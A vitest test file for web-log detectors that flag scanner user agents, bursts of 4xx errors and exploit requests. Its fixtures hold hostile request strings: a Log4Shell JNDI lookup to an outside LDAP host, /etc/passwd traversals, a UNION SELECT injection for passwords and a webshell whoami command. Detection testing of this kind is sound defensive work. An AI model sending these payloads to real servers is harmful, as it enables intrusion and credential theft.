import { afterAll, describe, expect, it } from 'vitest';
import { parseAll } from '../../../test/kits/chunk-parser';
import { insertEvents, newAssessment, runDetectors, type TestEvent } from '../../../test/kits/detect';
import { closeDb } from '../../db/client';
import { webAccessFormat } from '../../ingest/logs/web-access';
import { detectors } from '../registry';

afterAll(closeDb);

const web = detectors.filter((d) => ['logs.web-scanner-ua', 'logs.web-error-burst', 'logs.web-exploit-request'].includes(d.id));

/** Access log text → events as ingest stores them (the parser's own records). */
function events(text: string, host = 'alpha'): TestEvent[] {
  const r = parseAll(webAccessFormat.createParser({ path: `${host}/var/log/nginx/access.log`, timeZone: 'UTC', hostHint: host }), Buffer.from(text));
  expect(r.invalid).toEqual([]);
  return r.records.map((x) => ({
    ts: new Date(x.tsMs),
    kind: x.kind,
    host: x.hostName,
    program: x.program,
    argv: x.argv,
    paths: x.paths,
    src: x.srcIp,
    result: x.result,
    raw: x.raw,
  }));
}

async function detect(text: string) {
  const a = await newAssessment();
  await insertEvents(a, events(text));
  return runDetectors(a, web);
}

const clf = (client: string, sec: number, request: string, status: number, ua: string) => {
  const t = new Date(Date.UTC(2026, 11, 4, 20, 0, 0) + sec * 1000);
  const p = (n: number) => String(n).padStart(2, '0');
  return `${client} - - [${p(t.getUTCDate())}/Dec/2026:${p(t.getUTCHours())}:${p(t.getUTCMinutes())}:${p(t.getUTCSeconds())} +0000] "${request}" ${status} 153 "-" "${ua}"`;
};

// The monitoring poll of the webshop recording: Prometheus GET /healthz every 15 s, 32 rounds.
const POLLS = Array.from({ length: 32 }, (_, i) => clf('10.20.30.20', 49 + i * 15, 'GET /healthz HTTP/1.1', 200, 'Prometheus/2.45.0'));

// The scan of the webshop recording (alpha/var/log/nginx/access.log, 20:01:36).
const RECORDED_SCAN = `203.0.113.66 - - [04/Dec/2026:20:01:36 +0000] "GET / HTTP/1.0" 200 35 "-" "-"
203.0.113.66 - - [04/Dec/2026:20:01:36 +0000] "HEAD / HTTP/1.1" 200 0 "-" "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
203.0.113.66 - - [04/Dec/2026:20:01:36 +0000] "GET / HTTP/1.1" 200 35 "-" "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
203.0.113.66 - - [04/Dec/2026:20:01:36 +0000] "GET /admin/ HTTP/1.1" 404 153 "-" "Mozilla/5.0 (compatible; Nuclei - Open-source project)"
203.0.113.66 - - [04/Dec/2026:20:01:36 +0000] "GET /.env HTTP/1.1" 404 153 "-" "Mozilla/5.0 (compatible; Nuclei - Open-source project)"
203.0.113.66 - - [04/Dec/2026:20:01:36 +0000] "GET /phpmyadmin/ HTTP/1.1" 404 153 "-" "Mozilla/5.0 (compatible; Nuclei - Open-source project)"
203.0.113.66 - - [04/Dec/2026:20:01:36 +0000] "GET /backup.zip HTTP/1.1" 404 153 "-" "Mozilla/5.0 (compatible; Nuclei - Open-source project)"
203.0.113.66 - - [04/Dec/2026:20:01:36 +0000] "GET /wp-login.php HTTP/1.1" 404 153 "-" "Mozilla/5.0 (compatible; Nuclei - Open-source project)"
`;

describe('web server log detectors', () => {
  it("the recorded scan is one recon detection on alpha with the scanner's address; the Prometheus polls stay quiet", async () => {
    const found = await detect(`${POLLS.join('\n')}\n${RECORDED_SCAN}`);
    expect(found.map((f) => [f.detector, f.stage, f.technique, f.hostName, f.peer])).toEqual([
      ['logs.web-scanner-ua', 'recon', 'T1595.002', 'alpha', '203.0.113.66'],
    ]);
    expect(found[0]?.evidenceIds).toHaveLength(7);
  });

  it('benign: polls, a browser, an admin reading a few missing pages, a search for "union" stay quiet', async () => {
    const benign = [
      ...POLLS,
      clf('198.51.100.20', 10, 'GET /shop?q=select%20a%20gift HTTP/1.1', 200, 'Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0'),
      clf('198.51.100.20', 11, 'GET /blog/union-station HTTP/1.1', 200, 'Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0'),
      ...Array.from({ length: 13 }, (_, i) => clf('10.20.30.30', 20 + i, `GET /missing-${i} HTTP/1.1`, 404, 'curl/8.5.0')),
      clf('10.20.30.30', 300, 'GET /etc/config.json HTTP/1.1', 200, 'curl/8.5.0'),
    ];
    expect(await detect(`${benign.join('\n')}\n`)).toEqual([]);
  });

  it('a 4xx burst without a scanner user agent (Wazuh 31151: 14 in 90 s)', async () => {
    const lines = Array.from({ length: 14 }, (_, i) =>
      clf('198.51.100.9', i * 5, `GET /dir-${i}/ HTTP/1.1`, 404, 'Mozilla/5.0 (Windows NT 10.0) Chrome/120.0'),
    );
    const found = await detect(`${lines.join('\n')}\n`);
    expect(found.map((f) => [f.detector, f.stage, f.technique, f.peer])).toEqual([['logs.web-error-burst', 'recon', 'T1595.002', '198.51.100.9']]);
  });

  it.each([
    ['Log4Shell in the user agent', clf('198.51.100.5', 0, 'GET / HTTP/1.1', 200, `\${jndi:ldap://198.51.100.5:1389/a}`)],
    ['path traversal', clf('198.51.100.5', 0, 'GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1', 400, 'curl/8.5.0')],
    ['classic traversal', clf('198.51.100.5', 0, 'GET /index.php?page=../../../etc/passwd HTTP/1.1', 200, 'curl/8.5.0')],
    ['SQL injection', clf('198.51.100.5', 0, 'GET /item?id=1%20UNION%20SELECT%20user,password%20FROM%20users HTTP/1.1', 200, 'curl/8.5.0')],
    ['webshell command', clf('198.51.100.5', 0, 'GET /uploads/x.php?cmd=whoami HTTP/1.1', 200, 'curl/8.5.0')],
  ])('%s → Delivery T1190 with the client as peer', async (_name, line) => {
    const found = await detect(`${line}\n`);
    expect(found.map((f) => [f.detector, f.stage, f.technique, f.peer])).toEqual([['logs.web-exploit-request', 'delivery', 'T1190', '198.51.100.5']]);
  });

  it('SQL injection strings in a request that ended in 404 are not an exploit (Sigma filter)', async () => {
    expect(await detect(`${clf('198.51.100.5', 0, 'GET /x?id=1%20UNION%20SELECT%201 HTTP/1.1', 404, 'curl/8.5.0')}\n`)).toEqual([]);
  });
});
